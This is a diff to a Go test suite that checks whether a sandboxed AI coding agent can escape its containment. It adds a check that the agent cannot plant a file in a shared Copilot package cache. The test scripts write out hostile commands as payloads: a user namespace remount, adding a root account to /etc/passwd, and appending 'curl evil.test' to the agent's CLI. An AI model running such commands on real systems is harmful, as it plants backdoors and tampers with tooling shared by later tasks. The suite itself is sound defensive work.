@@ -319,11 +319,17 @@ unshare -Urm sh -c "mount -o remount,rw,bind $O; touch $O/%s" 2>/dev/null && ech
 			return fmt.Sprintf(`echo x >> /run/sesame/init && echo WROTE-INIT || echo NO-INIT
 echo 'root2:x:0:0::/:/bin/sh' >> /etc/passwd && echo WROTE-PASSWD || echo NO-PASSWD
 echo 'curl evil.test' >> %q && echo WROTE-AGENT || echo NO-AGENT
-touch %q && echo PLANTED || echo NO-PLANT`, claude, filepath.Join(filepath.Dir(claude), e.tag))
+touch %q && echo PLANTED || echo NO-PLANT
+mkdir -p %q 2>/dev/null; touch %q && echo PLANTED-CACHE || echo NO-PLANT-CACHE`, claude, filepath.Join(filepath.Dir(claude), e.tag),
+				copilotCache(e.provider.hostClaude), filepath.Join(copilotCache(e.provider.hostClaude), e.tag))
 		},
 		check: func(t *testing.T, e *escapeEnv, r *escapeRun) {
-			for _, line := range []string{"NO-INIT", "NO-PASSWD", "NO-AGENT", "NO-PLANT"} {
+			for _, line := range []string{"NO-INIT", "NO-PASSWD", "NO-AGENT", "NO-PLANT", "NO-PLANT-CACHE"} {
 				r.mustSay(t, line)
+			}
+			// Copilot's unpacked package, which every Copilot run from AGENTS_DIR is given.
+			if _, err := os.Stat(filepath.Join(copilotCache(e.provider.hostClaude), e.tag)); err == nil {
+				t.Errorf("the agent planted a file in the shared Copilot cache")
 			}
 			// The CLI every later task runs: the install on the host (local), or the file the
 			// docker suite's image was made from.
@@ -596,4 +602,10 @@ func TestViolationsInReplyAndPullRequest(t *testing.T) {
 	if strings.Join(targets, " ") != "example.org:443 evil.test:80" {
 		t.Errorf("violation events for %v, want example.org:443 and evil.test:80", targets)
 	}
+}
+
+// copilotCache is AGENTS_DIR/copilot-cache, where install-agents unpacks Copilot CLI once for every
+// task, found from Claude Code's install at AGENTS_DIR/claude/node_modules/.bin/claude.
+func copilotCache(hostClaude string) string {
+	return filepath.Join(filepath.Dir(filepath.Dir(filepath.Dir(filepath.Dir(hostClaude)))), "copilot-cache")
 }
